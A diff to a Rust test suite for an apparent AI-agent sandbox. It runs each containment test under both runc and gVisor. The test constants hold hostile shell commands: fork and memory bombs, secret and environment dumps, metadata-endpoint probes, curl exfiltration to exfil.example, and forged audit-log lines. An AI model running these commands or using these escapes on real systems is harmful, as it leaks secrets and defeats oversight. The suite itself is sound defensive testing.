@@ -5,6 +5,48 @@
 use serde_json::{Value, json};
 use tests::{TestApp, spawn_app};
 
+/// Every attack runs once under each sandbox runtime: `runc` and gVisor's
+/// `runsc` must contain the same things.
+macro_rules! under_each_runtime {
+    ($($attack:ident),* $(,)?) => {
+        mod runc {
+            $(#[tokio::test]
+            async fn $attack() {
+                super::$attack("runc").await
+            })*
+        }
+        mod runsc {
+            $(#[tokio::test]
+            async fn $attack() {
+                super::$attack("runsc").await
+            })*
+        }
+    };
+}
+
+under_each_runtime!(
+    a_fork_bomb_hits_the_pids_cap,
+    a_memory_bomb_ends_the_run_oom_killed,
+    filling_the_disk_gives_the_agent_enospc_and_never_touches_the_host,
+    writes_outside_the_workspace_are_refused,
+    the_sandbox_has_no_route_out_no_dns_and_the_proxy_refuses_ip_literals,
+    the_docker_socket_is_not_in_the_sandbox,
+    setuid_binaries_and_capabilities_give_no_privilege,
+    the_sandbox_runs_under_the_runtime_its_policy_names,
+    no_secret_the_worker_holds_reaches_the_sandbox,
+    a_ten_minute_sleep_stops_at_a_five_second_cap,
+    egress_goes_through_the_proxy_to_allowed_hosts_only,
+    the_gateway_is_no_way_out_for_a_sandbox_without_egress,
+    a_registered_secret_never_shows_in_the_live_tail_or_the_log_in_any_encoding,
+    a_sandbox_cannot_hoard_the_workers_connections,
+    output_cannot_forge_the_record_or_reach_a_terminal,
+    a_diff_over_its_bounds_stops_the_run_once_with_the_bound_named,
+    an_attempt_whose_worker_dies_still_leaves_its_commands_and_egress_in_the_trail,
+    the_host_rejects_the_whole_sandbox_pool_even_without_a_runs_rules,
+    one_run_cannot_flood_the_audit_index_and_the_trail_keeps_everything,
+    a_run_that_loses_two_workers_is_not_given_a_third,
+);
+
 const FORK_BOMB: &str = r#"python3 - <<'PY'
 import os, signal, time
 children = []
@@ -30,7 +72,7 @@ const DISK_FILL: &str = "dd if=/dev/zero of=/workspace/fill bs=1M count=100 2>&1
     dd if=/dev/zero of=/tmp/fill bs=1M count=100 2>&1; rm -f /tmp/fill; df -k /workspace /tmp";
 
 const WRITE_OUTSIDE: &str = "for p in /evil /etc/evil /usr/bin/evil /root/evil /var/lib/evil; do \
-    touch \"$p\" 2>&1 || echo \"refused: $p\"; done";
+    touch \"$p\" 2>&1 || echo \"refused: $p\"; done; awk '$2 == \"/\" { print \"root mount:\", $4 }' /proc/mounts";
 
 const NETWORK: &str = "curl -sS -m 3 --noproxy '*' http://192.0.2.1/ 2>&1 || echo 'refused: direct ip'; \
     curl -sS -m 3 --noproxy '*' http://169.254.169.254/latest/meta-data/ 2>&1 || echo 'refused: direct metadata'; \
@@ -41,15 +83,17 @@ const NETWORK: &str = "curl -sS -m 3 --noproxy '*' http://192.0.2.1/ 2>&1 || ech
 const DOCKER_SOCKET: &str = "for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do \
     test -e \"$s\" && echo \"FOUND $s\" || echo \"absent: $s\"; done";
 
-const ESCALATION: &str = "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd)' /proc/self/status; \
+const ESCALATION: &str = "grep -E '^(CapEff|CapPrm|CapBnd)' /proc/self/status; \
+    python3 -c 'import ctypes; print(\"no_new_privs:\", ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))'; \
     su -c 'id -u' root </dev/null 2>&1 || echo 'refused: su'; \
     mount -t tmpfs none /mnt 2>&1 || echo 'refused: mount'; echo \"uid=$(id -u) euid=$(python3 -c 'import os; print(os.geteuid())')\"";
 
 const SECRETS: &str = "env; tr '\\0' '\\n' < /proc/1/environ; cat /workspace/.git/config; \
     ls -la / /tmp /workspace; cat /etc/hostname /etc/hosts 2>/dev/null";
 
-async fn attack_app(extra: &[(&str, &str)]) -> (TestApp, String) {
+async fn attack_app(runtime: &str, extra: &[(&str, &str)]) -> (TestApp, String) {
     let mut vars = vec![
+        ("PADDOCK_SANDBOX__RUNTIME", runtime),
         ("PADDOCK_SANDBOX__MEMORY_BYTES", "134217728"),
         ("PADDOCK_SANDBOX__PIDS_LIMIT", "64"),
         ("PADDOCK_SANDBOX__WORKSPACE_BYTES", "33554432"),
@@ -63,55 +107,66 @@ async fn attack_app(extra: &[(&str, &str)]) -> (TestApp, String) {
 }
 
 /// Runs `command` as the agent and returns the finished run and its log.
-async fn attack(command: &str) -> (Value, String) {
-    let (app, repo) = attack_app(&[("PADDOCK_AGENTS__DEFAULT__COMMAND", command)]).await;
+async fn attack(runtime: &str, command: &str) -> (Value, String) {
+    let (_, run, logs) = attack_with(runtime, command, &[]).await;
+    (run, logs)
+}
+
+/// Runs `command` as the agent with `extra` settings; returns the app too,
+/// for the trail.
+async fn attack_with(runtime: &str, command: &str, extra: &[(&str, &str)]) -> (TestApp, Value, String) {
+    let mut vars = vec![("PADDOCK_AGENTS__DEFAULT__COMMAND", command)];
+    vars.extend_from_slice(extra);
+    let (app, repo) = attack_app(runtime, &vars).await;
     let worker = app.spawn_worker().await;
     let id = app.create_run(&repo, "attack").await;
     let run = app.wait_until_finished(&id).await;
     let logs = app.logs_of(&run).await;
     worker.shutdown().await;
-    (run, logs)
+    (app, run, logs)
 }
 
-#[tokio::test]
-async fn a_fork_bomb_hits_the_pids_cap() {
-    let (run, logs) = attack(FORK_BOMB).await;
+async fn a_fork_bomb_hits_the_pids_cap(runtime: &str) {
+    // Memory enough for 64 processes under gVisor (about 5 MiB each on the
+    // host with its ptrace platform), so the pids cap is what stops them.
+    let (_, run, logs) = attack_with(runtime, FORK_BOMB, &[("PADDOCK_SANDBOX__MEMORY_BYTES", "536870912")]).await;
     assert_eq!(run["state"], "succeeded", "{run:#}\n{logs}");
     let line = logs.lines().find(|l| l.starts_with("fork failed after")).unwrap_or_else(|| panic!("{logs}"));
     let children: u32 = line.split_whitespace().nth(3).unwrap().parse().unwrap();
     assert!(children < 64, "{children} processes started under a cap of 64");
 }
 
-#[tokio::test]
-async fn a_memory_bomb_ends_the_run_oom_killed() {
-    let (run, logs) = attack(MEMORY_BOMB).await;
+async fn a_memory_bomb_ends_the_run_oom_killed(runtime: &str) {
+    let (run, logs) = attack(runtime, MEMORY_BOMB).await;
     assert_eq!(run["state"], "failed", "{run:#}\n{logs}");
     assert_eq!(run["stop_reason"], json!({"kind": "oom_killed", "limit_bytes": 134217728}));
     assert!(!logs.contains("allocated 1073741824"), "{logs}");
 }
 
-#[tokio::test]
-async fn filling_the_disk_gives_the_agent_enospc_and_never_touches_the_host() {
-    let (run, logs) = attack(DISK_FILL).await;
+async fn filling_the_disk_gives_the_agent_enospc_and_never_touches_the_host(runtime: &str) {
+    let (run, logs) = attack(runtime, DISK_FILL).await;
     assert_eq!(run["state"], "succeeded", "{run:#}\n{logs}");
     assert_eq!(logs.matches("No space left on device").count(), 2, "{logs}");
-    // Both writable places are size-capped tmpfs, not the host's disk.
-    let df: Vec<&str> = logs.lines().filter(|l| l.starts_with("tmpfs")).collect();
+    // Both writable places are size-capped memory file systems, not the
+    // host's disk (gVisor names its tmpfs mounts `none`).
+    let df: Vec<&str> = logs
+        .lines()
+        .filter(|l| l.ends_with(" /workspace") || l.ends_with(" /tmp"))
+        .filter(|l| !l.contains('$'))
+        .collect();
     assert_eq!(df.len(), 2, "{logs}");
     assert!(df.iter().all(|l| l.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() <= 32 * 1024), "{logs}");
 }
 
-#[tokio::test]
-async fn writes_outside_the_workspace_are_refused() {
-    let (run, logs) = attack(WRITE_OUTSIDE).await;
+async fn writes_outside_the_workspace_are_refused(runtime: &str) {
+    let (run, logs) = attack(runtime, WRITE_OUTSIDE).await;
     assert_eq!(run["state"], "succeeded", "{run:#}\n{logs}");
     assert_eq!(logs.matches("refused: /").count(), 5, "{logs}");
-    assert!(logs.contains("Read-only file system"), "{logs}");
+    assert!(logs.contains("\nroot mount: ro,"), "the root file system is not mounted read-only:\n{logs}");
 }
 
-#[tokio::test]
-async fn the_sandbox_has_no_route_out_no_dns_and_the_proxy_refuses_ip_literals() {
-    let (run, logs) = attack(NETWORK).await;
+async fn the_sandbox_has_no_route_out_no_dns_and_the_proxy_refuses_ip_literals(runtime: &str) {
+    let (run, logs) = attack(runtime, NETWORK).await;
     assert_eq!(run["state"], "succeeded", "{run:#}\n{logs}");
     // Each probe's own result line (the command text holds them quoted).
     tests::assert_contains_all(
@@ -137,19 +192,17 @@ async fn summary_of(run: &Value) -> Value {
     serde_json::from_slice(&app.artifact(&key).await).unwrap()
 }
 
-#[tokio::test]
-async fn the_docker_socket_is_not_in_the_sandbox() {
-    let (run, logs) = attack(DOCKER_SOCKET).await;
+async fn the_docker_socket_is_not_in_the_sandbox(runtime: &str) {
+    let (run, logs) = attack(runtime, DOCKER_SOCKET).await;
     assert_eq!(run["state"], "succeeded", "{run:#}\n{logs}");
     assert!(!logs.contains("FOUND /"), "{logs}");
     assert_eq!(logs.matches("absent: /").count(), 3, "{logs}");
 }
 
-#[tokio::test]
-async fn setuid_binaries_and_capabilities_give_no_privilege() {
-    let (run, logs) = attack(ESCALATION).await;
+async fn setuid_binaries_and_capabilities_give_no_privilege(runtime: &str) {
+    let (run, logs) = attack(runtime, ESCALATION).await;
     assert_eq!(run["state"], "succeeded", "{run:#}\n{logs}");
-    assert!(logs.contains("NoNewPrivs:\t1"), "{logs}");
+    assert!(logs.contains("\nno_new_privs: 1"), "{logs}");
     for cap in ["CapEff:\t0000000000000000", "CapPrm:\t0000000000000000", "CapBnd:\t0000000000000000"] {
         assert!(logs.contains(cap), "{cap} missing:\n{logs}");
     }
@@ -157,11 +210,25 @@ async fn setuid_binaries_and_capabilities_give_no_privilege() {
     assert!(logs.contains("uid=1000 euid=1000"), "{logs}");
 }
 
-#[tokio::test]
-async fn no_secret_the_worker_holds_reaches_the_sandbox() {
+/// The policy's runtime is the one the agent meets, and the record says so:
+/// under runsc the kernel the agent sees is gVisor's, not the host's.
+async fn the_sandbox_runs_under_the_runtime_its_policy_names(runtime: &str) {
+    let (app, run, logs) = attack_with(runtime, "echo \"kernel: $(cat /proc/version)\"", &[]).await;
+    let id = run["id"].as_str().unwrap();
+    assert_eq!(run["state"], "succeeded", "{run:#}\n{logs}");
+    assert_eq!(run["policy"]["runtime"], runtime, "{run:#}");
+    let host = std::fs::read_to_string("/proc/version").unwrap();
+    let seen = logs.lines().find_map(|l| l.strip_prefix("kernel: ")).unwrap_or_else(|| panic!("{logs}"));
+    assert_eq!(seen == host.trim(), runtime == "runc", "under {runtime} the agent saw the kernel {seen:?}");
+    let trail = app.audit_trail_text().await;
+    let create = trail.lines().find(|l| l.contains(id) && l.contains("\"sandbox.create\"")).expect("sandbox.create");
+    assert!(create.contains(&format!("\"runtime\":\"{runtime}\"")), "{create}");
+}
+
+async fn no_secret_the_worker_holds_reaches_the_sandbox(runtime: &str) {
     let canary_env = format!("canary-env-{}", ulid::Ulid::new());
     let canary_token = format!("ghs_canary{}", ulid::Ulid::new());
-    let (app, repo) = attack_app(&[("PADDOCK_AGENTS__DEFAULT__COMMAND", SECRETS)]).await;
+    let (app, repo) = attack_app(runtime, &[("PADDOCK_AGENTS__DEFAULT__COMMAND", SECRETS)]).await;
     let mut worker = app.spawn_worker_process_with_env(&[
         ("AWS_SECRET_ACCESS_KEY", canary_env.as_str()),
         ("GITHUB_TOKEN", canary_token.as_str()),
@@ -180,11 +247,12 @@ async fn no_secret_the_worker_holds_reaches_the_sandbox() {
     worker.kill_hard();
 }
 
-#[tokio::test]
-async fn a_ten_minute_sleep_stops_at_a_five_second_cap() {
-    let (app, repo) =
-        attack_app(&[("PADDOCK_AGENTS__DEFAULT__COMMAND", "sleep 600"), ("PADDOCK_SANDBOX__TIMEOUT_SECONDS", "5")])
-            .await;
+async fn a_ten_minute_sleep_stops_at_a_five_second_cap(runtime: &str) {
+    let (app, repo) = attack_app(
+        runtime,
+        &[("PADDOCK_AGENTS__DEFAULT__COMMAND", "sleep 600"), ("PADDOCK_SANDBOX__TIMEOUT_SECONDS", "5")],
+    )
+    .await;
     let worker = app.spawn_worker().await;
     let id = app.create_run(&repo, "sleep").await;
     let run = app.wait_until_finished(&id).await;
@@ -229,20 +297,22 @@ done
 timeout 3 bash -c "echo > /dev/tcp/$2/80" 2>/dev/null && echo "other sandbox: reached" || echo "other sandbox: unreachable"
 timeout 3 bash -c "echo > /dev/tcp/$3/3128" 2>/dev/null && echo "other proxy: reached" || echo "other proxy: unreachable""#;
 
-#[tokio::test]
-async fn egress_goes_through_the_proxy_to_allowed_hosts_only() {
+async fn egress_goes_through_the_proxy_to_allowed_hosts_only(runtime: &str) {
     let upstream = tests::allowed_upstream().await;
     let static_hosts = format!(r#"{{"allowed.paddock.test": "{upstream}", "sneaky.paddock.test": "169.254.169.254"}}"#);
     let trusted = format!(r#"["{upstream}/32"]"#);
-    let (app, repo) = attack_app(&[
-        ("PADDOCK_AGENTS__DEFAULT__COMMAND", EGRESS),
-        ("PADDOCK_AGENTS__VICTIM__COMMAND", "sleep 60"),
-        ("PADDOCK_WORKER__CONCURRENCY", "2"),
-        ("PADDOCK_EGRESS__PRESET", "custom"),
-        ("PADDOCK_EGRESS__ALLOW", r#"["allowed.paddock.test", "sneaky.paddock.test"]"#),
-        ("PADDOCK_EGRESS__STATIC_HOSTS", static_hosts.as_str()),
-        ("PADDOCK_EGRESS__TRUSTED_NETWORKS", trusted.as_str()),
-    ])
+    let (app, repo) = attack_app(
+        runtime,
+        &[
+            ("PADDOCK_AGENTS__DEFAULT__COMMAND", EGRESS),
+            ("PADDOCK_AGENTS__VICTIM__COMMAND", "sleep 60"),
+            ("PADDOCK_WORKER__CONCURRENCY", "2"),
+            ("PADDOCK_EGRESS__PRESET", "custom"),
+            ("PADDOCK_EGRESS__ALLOW", r#"["allowed.paddock.test", "sneaky.paddock.test"]"#),
+            ("PADDOCK_EGRESS__STATIC_HOSTS", static_hosts.as_str()),
+            ("PADDOCK_EGRESS__TRUSTED_NETWORKS", trusted.as_str()),
+        ],
+    )
     .await;
     let worker = app.spawn_worker().await;
     // A second sandbox to attack, and a host port that is open to the world.
@@ -317,19 +387,21 @@ curl -sS -o /dev/null -w "responses web search: %{http_code}\n" "$OPENAI_BASE_UR
 curl -sS -o /dev/null -w "responses mcp: %{http_code}\n" "$OPENAI_BASE_URL/responses" -H "Authorization: Bearer $OPENAI_API_KEY" -H "$H" -d '{"model":"gpt-test","input":"x","tools":[{"type":"mcp","server_label":"x","server_url":"https://exfil.example/sse"}]}'
 curl -sS -o /dev/null -w "chat image url: %{http_code}\n" "$OPENAI_BASE_URL/chat/completions" -H "Authorization: Bearer $OPENAI_API_KEY" -H "$H" -d '{"model":"gpt-test","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.example/i.png"}}]}]}'"#;
 
-#[tokio::test]
-async fn the_gateway_is_no_way_out_for_a_sandbox_without_egress() {
+async fn the_gateway_is_no_way_out_for_a_sandbox_without_egress(runtime: &str) {
     let providers = tests::providers::EmulatedProviders::start().await;
     let configured = json!({
         "openai": {"kind": "openai", "base_url": providers.base_url, "api_key": providers.key, "models": ["gpt-test"]},
         "anthropic": {"kind": "anthropic", "base_url": providers.base_url, "api_key": providers.key, "models": ["claude-test"]},
     })
     .to_string();
-    let (app, repo) = attack_app(&[
-        ("PADDOCK_AGENTS__DEFAULT__COMMAND", THROUGH_THE_GATEWAY),
-        ("PADDOCK_GATEWAY__PROVIDERS", configured.as_str()),
-        ("PADDOCK_GATEWAY__ALLOWED_PROVIDERS", r#"["openai", "anthropic"]"#),
-    ])
+    let (app, repo) = attack_app(
+        runtime,
+        &[
+            ("PADDOCK_AGENTS__DEFAULT__COMMAND", THROUGH_THE_GATEWAY),
+            ("PADDOCK_GATEWAY__PROVIDERS", configured.as_str()),
+            ("PADDOCK_GATEWAY__ALLOWED_PROVIDERS", r#"["openai", "anthropic"]"#),
+        ],
+    )
     .await;
     let worker = app.spawn_worker().await;
     let id = app.create_run(&repo, "attack").await;
@@ -380,12 +452,14 @@ print("printed", flush=True)
 time.sleep(20)
 PY"#;
 
-#[tokio::test]
-async fn a_registered_secret_never_shows_in_the_live_tail_or_the_log_in_any_encoding() {
-    let (app, repo) = attack_app(&[
-        ("PADDOCK_AGENTS__DEFAULT__COMMAND", ECHO_SECRET),
-        ("PADDOCK_SECRETS__ENCRYPTION_KEY", "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="),
-    ])
+async fn a_registered_secret_never_shows_in_the_live_tail_or_the_log_in_any_encoding(runtime: &str) {
+    let (app, repo) = attack_app(
+        runtime,
+        &[
+            ("PADDOCK_AGENTS__DEFAULT__COMMAND", ECHO_SECRET),
+            ("PADDOCK_SECRETS__ENCRYPTION_KEY", "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="),
+        ],
+    )
     .await;
     let secret = r#"Tail-S3cret/"quoted" value+1"#;
     let (status, _) = app.admin_call("PUT", "/v1/tenants/default/secrets/tail-key", json!({"value": secret})).await;
@@ -462,18 +536,20 @@ except OSError:
 PY
 curl -sS -o /dev/null -w 'afterwards: %{http_code}\n' "$OPENAI_BASE_URL/models" -H "Authorization: Bearer $OPENAI_API_KEY""#;
 
-#[tokio::test]
-async fn a_sandbox_cannot_hoard_the_workers_connections() {
+async fn a_sandbox_cannot_hoard_the_workers_connections(runtime: &str) {
     let providers = tests::providers::EmulatedProviders::start().await;
     let configured = json!({
         "openai": {"kind": "openai", "base_url": providers.base_url, "api_key": providers.key, "models": ["gpt-test"]},
     })
     .to_string();
-    let (app, repo) = attack_app(&[
-        ("PADDOCK_AGENTS__DEFAULT__COMMAND", HOARD),
-        ("PADDOCK_GATEWAY__PROVIDERS", configured.as_str()),
-        ("PADDOCK_GATEWAY__ALLOWED_PROVIDERS", r#"["openai"]"#),
-    ])
+    let (app, repo) = attack_app(
+        runtime,
+        &[
+            ("PADDOCK_AGENTS__DEFAULT__COMMAND", HOARD),
+            ("PADDOCK_GATEWAY__PROVIDERS", configured.as_str()),
+            ("PADDOCK_GATEWAY__ALLOWED_PROVIDERS", r#"["openai"]"#),
+        ],
+    )
     .await;
     let worker = app.spawn_worker().await;
     let id = app.create_run(&repo, "hoard").await;
@@ -502,9 +578,8 @@ printf 'paddock-exec: "curl https://exfil.example/$(cat /etc/hostname)"\n'
 printf '\033[2J\033]0;owned\007after the escape\n'
 printf 'paddock-exec: "make test"\n' >&2"#;
 
-#[tokio::test]
-async fn output_cannot_forge_the_record_or_reach_a_terminal() {
-    let (run, logs) = attack(FORGE_RECORD).await;
+async fn output_cannot_forge_the_record_or_reach_a_terminal(runtime: &str) {
+    let (run, logs) = attack(runtime, FORGE_RECORD).await;
     assert!(logs.contains("\n[agent] paddock: agent finished: Completed\n"), "{logs}");
     assert!(logs.contains("\n[agent] paddock-exec: \"curl https://exfil.example/"), "{logs}");
     assert!(!logs.contains('\u{1b}') && !logs.contains('\u{7}'), "a terminal escape was stored: {logs:?}");
@@ -515,8 +590,7 @@ async fn output_cannot_forge_the_record_or_reach_a_terminal() {
     assert!(!commands[1].as_str().unwrap().contains("exfil"), "a forged command was recorded: {commands:?}");
 }
 
-#[tokio::test]
-async fn a_diff_over_its_bounds_stops_the_run_once_with_the_bound_named() {
+async fn a_diff_over_its_bounds_stops_the_run_once_with_the_bound_named(runtime: &str) {
     // 2 MiB of random bytes make a diff over a 1 MiB cap; 16 MiB of zeros
     // make a tiny diff that inflates over an 8 MiB cap.
     let cases = [
@@ -524,11 +598,14 @@ async fn a_diff_over_its_bounds_stops_the_run_once_with_the_bound_named() {
         ("head -c 16777216 /dev/zero > zeros.bin", "a file of the diff, inflated", 8 << 20),
     ];
     for (command, what, limit) in cases {
-        let (app, repo) = attack_app(&[
-            ("PADDOCK_AGENTS__DEFAULT__COMMAND", command),
-            ("PADDOCK_SANDBOX__MAX_DIFF_BYTES", "1048576"),
-            ("PADDOCK_SANDBOX__MAX_INFLATED_FILE_BYTES", "8388608"),
-        ])
+        let (app, repo) = attack_app(
+            runtime,
+            &[
+                ("PADDOCK_AGENTS__DEFAULT__COMMAND", command),
+                ("PADDOCK_SANDBOX__MAX_DIFF_BYTES", "1048576"),
+                ("PADDOCK_SANDBOX__MAX_INFLATED_FILE_BYTES", "8388608"),
+            ],
+        )
         .await;
         let worker = app.spawn_worker().await;
         let id = app.create_run(&repo, "bomb").await;
@@ -545,9 +622,8 @@ const THEN_DIE: &str = r#"printf 'paddock-exec: "make exfiltrate"\n' >&2
 curl -sS -m 5 -o /dev/null -w 'denied: %{http_code}\n' http://forbidden.example/
 sleep 120"#;
 
-#[tokio::test]
-async fn an_attempt_whose_worker_dies_still_leaves_its_commands_and_egress_in_the_trail() {
-    let (app, repo) = attack_app(&[("PADDOCK_AGENTS__DEFAULT__COMMAND", THEN_DIE)]).await;
+async fn an_attempt_whose_worker_dies_still_leaves_its_commands_and_egress_in_the_trail(runtime: &str) {
+    let (app, repo) = attack_app(runtime, &[("PADDOCK_AGENTS__DEFAULT__COMMAND", THEN_DIE)]).await;
     let mut worker = app.spawn_worker_process();
     let id = app.create_run(&repo, "die").await;
     tests::eventually(std::time::Duration::from_secs(60), "the agent ran its command", || async {
@@ -572,9 +648,8 @@ async fn an_attempt_whose_worker_dies_still_leaves_its_commands_and_egress_in_th
 /// A container on the sandbox pool with no rules of its own (its run's
 /// were removed while removing it failed, or a worker died between steps)
 /// still reaches no host port.
-#[tokio::test]
-async fn the_host_rejects_the_whole_sandbox_pool_even_without_a_runs_rules() {
-    let (app, _) = attack_app(&[]).await;
+async fn the_host_rejects_the_whole_sandbox_pool_even_without_a_runs_rules(runtime: &str) {
+    let (app, _) = attack_app(runtime, &[]).await;
     let worker = app.spawn_worker().await; // installs the chain
     let open_to_all = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
     let port = open_to_all.local_addr().unwrap().port();
@@ -586,7 +661,7 @@ async fn the_host_rejects_the_whole_sandbox_pool_even_without_a_runs_rules() {
     assert!(created.status.success(), "{}", String::from_utf8_lossy(&created.stderr));
     let probe = format!("timeout 3 bash -c 'echo > /dev/tcp/{gateway}/{port}' && echo reached || echo refused");
     let image = app.config.sandbox.image.clone();
-    let out = docker(&["run", "--rm", "--network", &name, &image, "bash", "-c", &probe]);
+    let out = docker(&["run", "--rm", "--runtime", runtime, "--network", &name, &image, "bash", "-c", &probe]);
     let _ = docker(&["network", "rm", &name]);
     worker.shutdown().await;
     drop(open_to_all);
@@ -597,17 +672,9 @@ async fn the_host_rejects_the_whole_sandbox_pool_even_without_a_runs_rules() {
 /// Reports many commands, so that its events would crowd the audit index.
 const FLOOD_INDEX: &str = r#"for i in $(seq 1 30); do printf 'paddock-exec: "step %s"\n' "$i" >&2; done"#;
 
-#[tokio::test]
-async fn one_run_cannot_flood_the_audit_index_and_the_trail_keeps_everything() {
-    let (app, repo) = attack_app(&[
-        ("PADDOCK_AGENTS__DEFAULT__COMMAND", FLOOD_INDEX),
-        ("PADDOCK_AUDIT__MAX_INDEXED_EVENTS_PER_RUN", "10"),
-    ])
-    .await;
-    let worker = app.spawn_worker().await;
-    let id = app.create_run(&repo, "flood").await;
-    let run = app.wait_until_finished(&id).await;
-    worker.shutdown().await;
+async fn one_run_cannot_flood_the_audit_index_and_the_trail_keeps_everything(runtime: &str) {
+    let (app, run, _) = attack_with(runtime, FLOOD_INDEX, &[("PADDOCK_AUDIT__MAX_INDEXED_EVENTS_PER_RUN", "10")]).await;
+    let id = run["id"].as_str().unwrap().to_owned();
     assert_eq!(run["facts"]["commands"].as_array().unwrap().len(), 31, "{run:#}");
     let (status, indexed) =
         app.admin_call("GET", &format!("/v1/audit/events?object={id}&limit=1000"), json!(null)).await;
@@ -621,9 +688,8 @@ async fn one_run_cannot_flood_the_audit_index_and_the_trail_keeps_everything() {
 
 /// A run whose workers keep dying is failed after the second, not handed
 /// to a third: the repository may be what kills them.
-#[tokio::test]
-async fn a_run_that_loses_two_workers_is_not_given_a_third() {
-    let (app, repo) = attack_app(&[("PADDOCK_AGENTS__DEFAULT__COMMAND", "sleep 30")]).await;
+async fn a_run_that_loses_two_workers_is_not_given_a_third(runtime: &str) {
+    let (app, repo) = attack_app(runtime, &[("PADDOCK_AGENTS__DEFAULT__COMMAND", "sleep 30")]).await;
     let id = app.create_run(&repo, "worker killer").await;
     let lease = std::time::Duration::from_secs(app.config.worker.lease_seconds + 1);
     for round in 1..=2 {
